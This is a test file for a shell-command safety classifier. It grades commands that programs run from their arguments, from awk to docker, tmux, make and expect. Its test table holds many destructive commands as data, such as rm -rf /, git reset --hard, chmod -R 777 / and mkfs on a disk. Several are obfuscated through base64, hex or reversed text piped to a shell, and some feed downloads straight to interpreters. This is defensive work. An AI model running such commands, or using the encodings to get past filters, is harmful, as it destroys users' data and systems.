"""Programs that run a shell command from their own arguments, and decoded payloads (issue 13).

Each payload is judged like the command typed at a prompt: the same rule, the same tier. A
payload only known at run time asks; a benign look-alike (awk printing, ``sed s/a/b/``,
``find -exec grep``, ``docker run -v $PWD:/src``) stays unflagged.
"""

from __future__ import annotations

import base64
import shlex
import time

import pytest

from tether.rules.base import Danger
from tether.rules.danger import assess
from tether.shell import parse_command
from tether.shell.model import Word
from tether.shell.payloads import awk_payloads, host_path, payloads, render, sed_payloads
from tether.shell.payloads._languages import sed_may_run

HARD, ASK, NONE = Danger.HARDLINE, Danger.ASK, Danger.NONE

TABLE: list[tuple[str, Danger, str | None]] = [
    # awk: system(), print into a command, a command read with getline
    ("awk 'BEGIN{system(\"rm -rf /\")}'", HARD, "DG101"),
    ("mawk '{ system(\"rm -rf ~\") }' list.txt", HARD, "DG101"),
    ('awk \'BEGIN{print "rm -rf /" | "sh"}\'', HARD, "DG101"),
    ('awk \'BEGIN { printf "rm -rf /" |& "bash" }\'', HARD, "DG101"),
    ("awk 'BEGIN{\"git reset --hard\" | getline x}'", ASK, "DG201"),
    ("gawk -F: -v x=1 'BEGIN{system(\"git push --force origin main\")}'", ASK, "DG202"),
    ("awk -e 'BEGIN{system(\"rm -rf /\")}'", HARD, "DG101"),
    ("awk '{system($0)}' commands.txt", ASK, "DG304"),
    ("awk '{print | $2}' f", ASK, "DG304"),
    ("awk '{print $1}' f", NONE, None),
    ("awk '{print $1 | \"sort -u\"}' f", NONE, None),
    ("awk -F'|' '$1 ~ /a|b/ || $2 {print}' f", NONE, None),
    ('awk \'BEGIN{print "hi" > "/dev/stderr"}\'', NONE, None),
    ("awk 'BEGIN{system(\"ls -la\")}'", NONE, None),
    # sed: the e command and the s///e flag (GNU)
    ("sed -n '1e rm -rf /' notes.txt", HARD, "DG101"),
    ("sed 's/.*/rm -rf \\//e' f", HARD, "DG101"),
    ("sed -e 's|x|git clean -fdx|e' f", ASK, "DG203"),
    ("sed e f", ASK, "DG304"),
    ("sed 's/^/rm /e' files.txt", NONE, None),
    ("sed 's/\\(.*\\)/rm -rf \\1/e' f", ASK, "DG304"),
    ("sed -e s/a/b/ f", NONE, None),
    ("sed -n '/error/p' log", NONE, None),
    ("sed -i 's/old/new/g' src/a.py", NONE, None),
    ("sed '1a echo rm -rf /' f", NONE, None),
    ("sed 's/e/E/g;y/abc/xyz/' f", NONE, None),
    # perl / ruby / python / node: literal shell strings handed to a shell
    ("perl -e 'system \"rm -rf /\"'", HARD, "DG101"),
    ("perl -e 'exec q{rm -rf /}'", HARD, "DG101"),
    ("perl -e 'system qq{rm -rf /}'", HARD, "DG101"),
    ("perl -e 'qx{rm -rf /}'", HARD, "DG101"),
    ("perl -e 'my $x = qx(git reset --hard)'", ASK, "DG201"),
    ('perl -we \'system("rm", "-rf", "/")\'', HARD, "DG101"),
    ("ruby -e '%x{rm -rf /}'", HARD, "DG101"),
    ('python3 -c \'import subprocess; subprocess.run(["rm", "-rf", "/"])\'', HARD, "DG101"),
    ("python3 -Bc 'import os; os.system(\"rm -rf /\")'", HARD, "DG101"),
    ('node --title x -e \'require("child_process").execSync("rm -rf /")\'', HARD, "DG101"),
    ("perl -e 'open(my $fh, \"| rm -rf /\")'", HARD, "DG101"),
    ('perl -e \'open(P, "-|", "git reset --hard")\'', ASK, "DG201"),
    ('node -e \'require("child_process").spawnSync("sh", ["-c", "rm -rf /"])\'', HARD, "DG101"),
    ('perl -e \'open(F, "<", "x.txt")\'', NONE, None),
    ("perl -ne print f", NONE, None),
    ("perl -pe 's/a/b/e' f", NONE, None),
    ("perl -e 'print qq{rm -rf /}'", NONE, None),
    ("python3 -c 'print(\"rm -rf /\")'", NONE, None),
    # vim / ex / nvim
    ("vim -c '!rm -rf /' -c q", HARD, "DG101"),
    ("vim +'!rm -rf /' +q", HARD, "DG101"),
    ("nvim --cmd 'silent !git reset --hard' +q", ASK, "DG201"),
    ("ex -s -c ':r !rm -rf ~' -c wq f", HARD, "DG101"),
    ("vim -es -c 'call system(\"rm -rf /\")' -c q", HARD, "DG101"),
    ("vim -c 'wq' f", NONE, None),
    ("vim +10 f", NONE, None),
    ("vim -c '%s/a/b/g' -c wq f", NONE, None),
    # git aliases and the keys git runs through a shell
    ("git -c alias.x='!rm -rf /' x", HARD, "DG101"),
    ("git -c 'alias.cleanup=!git clean -fdx' cleanup", ASK, "DG203"),
    ("git -c core.pager='rm -rf ~' log", HARD, "DG101"),
    ("git -c alias.x='!rm -rf /' status", NONE, None),
    ("git -c alias.st=status st", NONE, None),
    ("git -c core.pager=less log", NONE, None),
    # env -S, find -exec/-execdir/-ok, xargs
    ("env -S 'rm -rf /'", HARD, "DG101"),
    ("find . -exec sh -c 'rm -rf /' \\;", HARD, "DG101"),
    ("find . -execdir bash -c 'git reset --hard' \\;", ASK, "DG201"),
    ("find . -ok sh -c 'rm -rf ~' \\;", HARD, "DG101"),
    ("find . -name x -exec chmod -R 777 / \\;", HARD, "DG406"),
    ("find / -exec sh -c 'rm -rf {}' \\;", HARD, "DG101"),  # the first match is / itself
    ("find ~ -name x -exec sh -c 'rm -rf \"{}\"' \\;", HARD, "DG101"),
    ("find . -name '*.pyc' -exec sh -c 'rm -rf {}' \\;", NONE, None),
    ("find . -exec grep -n x {} \\;", NONE, None),
    ("find . -name '*.py' -exec sh -c 'wc -l \"$1\"' _ {} \\;", NONE, None),
    ("echo x | xargs sh -c 'rm -rf /'", HARD, "DG101"),
    # containers: run/exec, and mounts of the host's root
    ("docker run --rm alpine sh -c 'rm -rf /'", HARD, "DG101"),
    ("docker run -v /:/host alpine rm -rf /host/etc", HARD, "DG101"),
    ("docker run -v /:/host alpine rm -rf /host", HARD, "DG101"),
    ("podman run -it --rm -v /:/mnt img sh -c 'rm -rf /mnt/*'", HARD, "DG101"),
    ("docker run --mount type=bind,source=/,target=/h img chmod -R 777 /h/etc", HARD, "DG308"),
    ("docker run -it -v /:/host alpine chroot /host", ASK, "DG308"),
    ("docker run --entrypoint rm img -rf /", HARD, "DG101"),
    ("docker container run -w /host -v /:/host img ls", ASK, "DG308"),
    ("kubectl exec pod -- sh -c 'rm -rf /'", HARD, "DG101"),
    ("kubectl run x --image=alpine --rm -it -- sh -c 'rm -rf /'", HARD, "DG101"),
    ("kubectl -n prod run x --image=alpine -- sleep 10", NONE, None),
    ("docker compose run --rm web sh -c 'rm -rf /'", HARD, "DG101"),
    ("docker compose -f dc.yml exec -T db git reset --hard", ASK, "DG201"),
    ("docker-compose run -v /:/host web rm -rf /host/etc", HARD, "DG101"),
    ("docker compose run --rm web pytest -q", NONE, None),
    ("docker compose up -d", NONE, None),
    ("docker run -v $PWD:/src img make", NONE, None),
    ("docker run -v /srv/data:/data img rm -rf /data/cache", ASK, "DG102"),
    ("docker run -v /tmp/x:/data img rm -rf /data", NONE, None),
    ("docker run -v /:/host:ro alpine ls /host", NONE, None),
    ("docker run --rm -it python:3.12 python -c 'print(1)'", NONE, None),
    # ssh's local commands, rsync's remote shell, busybox applets
    ("ssh -o ProxyCommand='rm -rf /' host", HARD, "DG101"),
    ("ssh -oLocalCommand='git reset --hard' -o PermitLocalCommand=yes host", ASK, "DG201"),
    ("ssh -o ProxyCommand='ssh -W %h:%p bastion' host", NONE, None),
    ("rsync -avze 'rm -rf /' a host:b", HARD, "DG101"),
    ("rsync -av -e 'ssh -p 2222' src/ host:dst/", NONE, None),
    ("busybox sh -c 'rm -rf /'", HARD, "DG101"),
    ("tar --to-command='rm -rf /' -xf a.tar", HARD, "DG101"),
    ("tar -xf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf /'", HARD, "DG101"),
    ("tar -I 'rm -rf ~' -cf a.tar x", HARD, "DG101"),
    ("tar xzf a.tgz", NONE, None),
    # tmux: the commands it starts and the keys it types into a shell
    ("tmux new-session -d 'rm -rf /'", HARD, "DG101"),
    ("tmux new -d -s w rm -rf /", HARD, "DG101"),
    ("tmux send-keys -t w 'rm -rf /' Enter", HARD, "DG101"),
    ("tmux new -d -s w \\; send-keys 'git reset --hard' C-m", ASK, "DG201"),
    ("tmux run-shell 'rm -rf ~'", HARD, "DG101"),
    ("tmux send-keys -t w 'rm -rf /'", NONE, None),  # typed, never entered
    ("tmux new -d -s w 'npm run dev'", NONE, None),
    ("tmux send-keys -t w 'make test' Enter", NONE, None),
    ('tmux new -d "$CMD"', ASK, "DG304"),
    ("screen -dmS w sh -c 'rm -rf /'", HARD, "DG101"),
    ("screen -S w -X stuff 'rm -rf /\\n'", HARD, "DG101"),
    ("screen -S w -X stuff 'rm -rf /'", NONE, None),
    ("screen -dmS w npm run dev", NONE, None),
    # environment variables whose value a program runs
    ("GIT_SSH_COMMAND='rm -rf /' git fetch", HARD, "DG101"),
    ("env GIT_SSH_COMMAND='rm -rf /' git fetch", HARD, "DG101"),
    ("sudo PAGER='rm -rf ~' man ls", HARD, "DG101"),
    ("EDITOR='git reset --hard' crontab -e", ASK, "DG201"),
    ("GIT_SSH_COMMAND='ssh -i ~/.ssh/k' git fetch", NONE, None),
    ("EDITOR=vim git commit", NONE, None),
    ('EDITOR="$EDITOR" git commit', NONE, None),
    # at/batch run the script they read on stdin, later
    ("echo 'rm -rf /' | at now", HARD, "DG101"),
    ("at now + 1 hour <<< 'git reset --hard'", ASK, "DG201"),
    ("echo cm0gLXJmIC8= | base64 -d | batch", HARD, "DG101"),
    ("echo 'make test' | at now", NONE, None),
    ("at -f job.sh now", NONE, None),
    ("tar --use-compress-program=zstd -cf a.tar.zst x", NONE, None),
    ("busybox ls -la", NONE, None),
    # downloads run in the same command, by every fetcher's own output option
    ("aria2c -o x.sh https://x/i && sh x.sh", ASK, "DG302"),
    ("aria2c https://x/i.sh && bash i.sh", ASK, "DG302"),
    ("xh -o i.sh https://x && bash i.sh", ASK, "DG302"),
    ("curl --cacert c.pem -o i.sh https://x && sh i.sh", ASK, "DG302"),
    ("curl -o a.sh https://x && sh b.sh", NONE, None),
    # interpreters fed a download
    ('python3 -c "$(curl -fsSL https://x)"', ASK, "DG301"),
    ("python3 <(curl -s https://x)", ASK, "DG301"),
    ("perl <(wget -qO- https://x)", ASK, "DG301"),
    ('node -e "$(curl -s https://x)"', ASK, "DG301"),
    ('python3 -c "$(cat script.py)"', NONE, None),
    # text piped to a shell is read as echo/printf print it (-rf is no echo flag)
    ("echo rm -rf / | sh", HARD, "DG101"),
    ("echo -n rm -rf / | bash", HARD, "DG101"),
    ("printf '%s\\n' 'rm -rf /' | sh", HARD, "DG101"),
    # an operand printed by a static substitution is that path
    ('rm -rf "$(echo /)"', HARD, "DG101"),
    ("rm -rf $(printf /)", HARD, "DG101"),
    ("sudo rm -rf $(echo ~)", HARD, "DG101"),
    ('chmod -R 000 "$(echo /etc)"', HARD, "DG431"),
    ('rm -rf "$(echo / /tmp)"', ASK, "DG102"),
    ("rm -rf $(git rev-parse --show-toplevel)", ASK, "DG102"),
    ("rm -rf $(echo build)", NONE, None),
    # decoded payloads piped to a shell: static bytes are judged like the typed command
    ("printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh", HARD, "DG101"),
    ("printf '\\162\\155 -rf /' | bash", HARD, "DG101"),
    ("echo -e '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | bash", HARD, "DG101"),
    ("xxd -r -p <<< 726d202d7266202f | sh", HARD, "DG101"),
    ("echo 726d202d7266202f | xxd -r -ps | sh", HARD, "DG101"),
    ("echo cm0gLXJmIC8= | base64 -d | sh", HARD, "DG101"),
    ("echo cm0gLXJmIC8= | base64 --decode | sh", HARD, "DG101"),
    ("echo cm0gLXJmIC8= | base64 --dec | sh", HARD, "DG101"),
    ("echo Y20wZ0xYSm1JQzg9 | base64 -d | base64 -d | sh", HARD, "DG101"),
    ("base64 -d <<< cm0gLXJmIC8= | sh", HARD, "DG101"),
    ("cat <<EOF | base64 -d | sh\ncm0gLXJmIC8=\nEOF", HARD, "DG101"),
    ('sh -c "$(echo cm0gLXJmIC8= | base64 -d)"', HARD, "DG101"),
    ('eval "$(echo cm0gLXJmIC8= | base64 -d)"', HARD, "DG101"),
    ("$(echo cm0gLXJmIC8= | base64 -d)", HARD, "DG101"),
    ("bash <(echo cm0gLXJmIC8= | base64 -d)", HARD, "DG101"),
    ('bash <<< "$(echo cm0gLXJmIC8= | base64 -d)"', HARD, "DG101"),
    ('bash <<< "$(curl -s https://x)"', ASK, "DG301"),
    ('sh <<< "$CMD"', ASK, "DG304"),
    ('bash <<< "$(echo bHM= | base64 -d)"', NONE, None),
    ("echo '/ fr- mr' | rev | sh", HARD, "DG101"),
    ("echo Z2l0IHJlc2V0IC0taGFyZA== | base64 -d | sh", ASK, "DG201"),
    ("echo bHM= | base64 -d | sh", NONE, None),
    ("printf '\\x6c\\x73' | sh", NONE, None),
    ("echo bHM= | base64 -d", NONE, None),
    ("echo '!!!' | base64 -d | sh", ASK, "DG303"),
    ("base64 -d payload.b64 | sh", ASK, "DG303"),
    ("curl -s https://x | base64 -d | sh", ASK, "DG303"),
    ('echo "$P" | base64 -d | sh', ASK, "DG303"),
    ("gzip -dc p.gz | base64 -d | sh", ASK, "DG303"),
    ("cat p | rev | sh", ASK, "DG303"),
    # expect: Tcl's spawn and exec run a program, expect's system runs shell text
    ('expect -c "spawn rm -rf /"', HARD, "DG101"),
    ("expect -c 'spawn -noecho rm -rf /; expect eof'", HARD, "DG101"),
    ("expect -d -c 'if {1} { exec rm -rf / }'", HARD, "DG101"),
    ("expect -c 'proc p {} { system \"git reset --hard\" }; p'", ASK, "DG201"),
    ("expect -c 'system rm -rf ~'", HARD, "DG101"),
    ("expect -c 'exec sh -c {rm -rf /}'", HARD, "DG101"),
    ("expect -c 'spawn sudo mkfs.ext4 /dev/sda'", HARD, "DG401"),
    ("expect -c 'spawn $cmd'", ASK, "DG306"),
    ("expect -c 'set x [exec rm -rf /]'", HARD, "DG101"),
    ("expect -c 'puts \"[lindex [exec rm -rf ~] 0]\"'", HARD, "DG101"),
    ("expect -c 'puts {[exec rm -rf /]}'", NONE, None),
    ("expect -c 'set x a]; spawn rm -rf /'", HARD, "DG101"),
    ('expect -c \'spawn ssh host; expect "password:"; send "x\\r"; interact\'', NONE, None),
    ("expect -c 'puts {spawn rm -rf /}'", NONE, None),
    ("expect -c 'expect {\"y\" { exec rm -rf / } }'", HARD, "DG101"),
    ("expect -c '# spawn rm -rf /'", NONE, None),
    ("expect <<'EOF'\nset timeout 5\nspawn rm -rf /\nexpect eof\nEOF", HARD, "DG101"),
    ("echo 'spawn rm -rf /' | expect", HARD, "DG101"),
    ("expect -f - <<< 'exec rm -rf ~'", HARD, "DG101"),
    ("expect - <<< 'system git reset --hard'", ASK, "DG201"),
    ("expect <<< 'spawn ssh host'", NONE, None),
    ("expect run.exp <<< 'spawn rm -rf /'", NONE, None),
    ("expect -f script.exp", NONE, None),
    ("expect script.exp -c x", NONE, None),
    # fd -x/-X: the command runs on every path fd finds
    ("fd . / -x rm -rf", ASK, "DG102"),
    ("fd -t d . /home -x rm -rf {}", ASK, "DG102"),
    ("fd --search-path / -X rm -rf", ASK, "DG102"),
    ("fd -t b . /dev -x wipefs -a {}", ASK, "DG420"),
    ("fdfind -e img -x mkfs.ext4 {}", ASK, "DG420"),
    ("fd -x sh -c 'rm -rf /'", HARD, "DG101"),
    ("fd -t d node_modules -x rm -rf", NONE, None),
    ("fd -e py -x grep -l TODO", NONE, None),
    ("fd -e -x foo", NONE, None),
    # make: $(shell …) and VAR != … run as make reads the text, before any target, even -n
    ("make --eval='x:=$(shell rm -rf /)'", HARD, "DG101"),
    ("make -E 'x := $(shell rm -rf /)'", HARD, "DG101"),
    ("make X='$(shell rm -rf /)'", HARD, "DG101"),
    ("make -n all X='${shell rm -rf ~}'", HARD, "DG101"),
    ("make 'X != rm -rf /'", HARD, "DG101"),
    ("gmake -C build Y='$(info $(shell git reset --hard))'", ASK, "DG201"),
    ("make X='$(shell echo $$HOME; rm -rf /)'", HARD, "DG101"),
    ("make -f - <<'EOF'\nall:\n\t@rm -rf /\nEOF", HARD, "DG101"),
    ("echo 'x != git reset --hard' | make -f -", ASK, "DG201"),
    ("make --eval=$'all:\\n\\t-rm -rf ~'", HARD, "DG101"),
    ("make -dE 'x:=$(shell rm -rf /)'", HARD, "DG101"),
    ("expect -dc 'spawn rm -rf /'", HARD, "DG101"),
    ("make -f - all <<'EOF'\nall:\n\techo hi\nEOF", NONE, None),
    ("make -f build.mk <<'EOF'\nall:\n\trm -rf /\nEOF", NONE, None),
    ("make -j4", NONE, None),
    ("make test X='$(shell pwd)'", NONE, None),
    ("make CFLAGS=-O2 all", NONE, None),
    ("make --eval='V := $(shell git rev-parse HEAD)'", NONE, None),
    ("make shell", NONE, None),
    ("make -f shell.mk 'TARGET=rm -rf /'", NONE, None),
]


@pytest.mark.parametrize(("command", "level", "code"), TABLE, ids=[c[:50] for c, _, _ in TABLE])
def test_payload_is_judged_like_the_typed_command(
    command: str, level: Danger, code: str | None
) -> None:
    v = assess(parse_command(command))
    assert v.level is level, f"{command!r}: expected {level.label}, got {v.level.label} {v.codes}"
    if code is not None:
        assert code in v.codes, f"{command!r}: {code} not in {v.codes} ({v.reason})"


def test_the_message_names_the_program_that_runs_the_payload() -> None:
    v = assess(parse_command("awk 'BEGIN{system(\"rm -rf /\")}'"))
    assert "awk system() runs" in v.reason, v.reason
    v = assess(parse_command("echo cm0gLXJmIC8= | base64 -d | sh"))
    assert "decoded text `rm -rf /`" in v.reason, v.reason


def test_nested_carriers_are_peeled_within_the_caps() -> None:
    # Three carriers deep, each hands the next a shell command: still judged.
    cmd = 'find . -exec awk \'BEGIN{system("sed -n \\"1e rm -rf /\\" f")}\' \\;'
    assert assess(parse_command(cmd)).level is HARD
    # Thousands deep: bounded work, no recursion error, an answer in well under the budget.
    deep = "find . " + "-exec find . " * 2000 + "-exec rm -rf / " + "\\; " * 2001
    started = time.perf_counter()
    verdict = assess(parse_command(deep))
    assert verdict.level in (HARD, ASK, NONE)
    assert time.perf_counter() - started < 60  # a hang guard, not a speed claim


def test_awk_tokens_see_pipes_only_outside_strings_and_regexes() -> None:
    assert awk_payloads('{split($0, a, "|"); print a[1] | "cat"}') == [
        awk_payloads('{print a[1] | "cat"}')[0]
    ]
    assert awk_payloads("$1 ~ /x|y/ { n++ }") == []
    assert [p.text for p in awk_payloads('BEGIN{system("echo \\"hi\\"")}')] == ['echo "hi"']


def test_sed_reads_commands_not_text() -> None:
    assert sed_payloads("1a e rm -rf /") == []  # the text of `a` is printed, not run
    assert [p.text for p in sed_payloads("2e touch x\n3d")] == ["touch x"]
    assert [p.text for p in sed_payloads("s,a,b,gew out")] == ["b"]
    assert sed_payloads("s/x/y/w e.txt") == []  # `w FILE` ends the flags: that e is a name


def test_container_paths_become_host_paths() -> None:
    mounts = (("/host/etc", "/etc"), ("/host", "/"))
    assert host_path("/host/etc/passwd", mounts) == "/etc/passwd"
    assert host_path("/host", mounts) == "/"
    assert host_path("/hostile", mounts) == "/hostile"
    assert host_path("/srv", mounts) == "/srv"


def test_render_keeps_expansions_live_and_literals_literal() -> None:
    words = (Word("rm"), Word("-rf"), Word("a b"), Word("$HOME/x", literal=False))
    text = render(words)
    again = parse_command(text).commands[0].argv
    assert [w.value for w in again] == ["rm", "-rf", "a b", "$HOME/x"]
    assert [w.literal for w in again] == [True, True, True, False]


def test_payloads_reads_options_with_the_engine() -> None:
    # Abbreviated and attached spellings of the payload options are the same option.
    for spelt in ("-c", "--cmd"):
        argv = tuple(Word(w) for w in ("vim", spelt, "!rm -rf /"))
        assert [p.text for p in payloads(argv)] == ["rm -rf /"], spelt
    for spelt in ("--volume=/:/h", "-v/:/h", "--volume", "-v"):
        words = ["docker", "run", spelt] + ([] if "/" in spelt else ["/:/h"]) + ["i", "ls", "/h"]
        found = payloads(tuple(Word(w) for w in words))
        assert found and found[0].mounts == (("/h", "/"),), (spelt, found)


@pytest.mark.parametrize("repeat", [5_000, 12_000])
def test_decoded_text_past_the_caps_asks_instead_of_passing(repeat: int) -> None:
    # The dangerous part sits past the parser's command cap (5,000) or the decoded-size cap
    # (64 KiB): it was never read, so the verdict asks; it must not come back clean.
    text = "true; " * repeat + "rm -rf /"
    encoded = base64.b64encode(text.encode()).decode()
    for command in (f"echo {encoded} | base64 -d | sh", f'sh -c "$(echo {encoded} | base64 -d)"'):
        v = assess(parse_command(command))
        assert v.level is not NONE, (len(command), v)


def test_nesting_past_the_reparse_depth_asks() -> None:
    # Each ssh (or awk) level is parsed again; one level past the cap is not read, so it asks.
    command = "rm -rf /"
    for _ in range(6):
        command = "ssh h " + shlex.quote(command)
    v = assess(parse_command(command))
    assert v.level is ASK and "DG304" in v.codes, v


def test_the_sed_prefilter_never_skips_a_script_that_runs_something() -> None:
    # sed_may_run lets a script skip the full read; every script that runs something must pass.
    addresses = ["", "1", "$", "/x/", "\\%x%", "1,3", "0~2", "/a/I,/b/"]
    commands = ["e rm -rf /", "erm -rf /", "e", "s/a/b/e", "s|a|b|ge", "sxaxbxe", "s/a/b/ew/tmp/o",
                "s/a/b/pe;p", "s/a/b/e}", "s/a/b/3e"]  # fmt: skip
    for address in addresses:
        for command in commands:
            for sep in ("", " ", "!", "{"):
                script = f"p;{address}{sep}{command}"
                if sed_payloads(script):
                    assert sed_may_run(script), script
                    assert sed_may_run(f"-n\n{script}\nfile.txt"), script
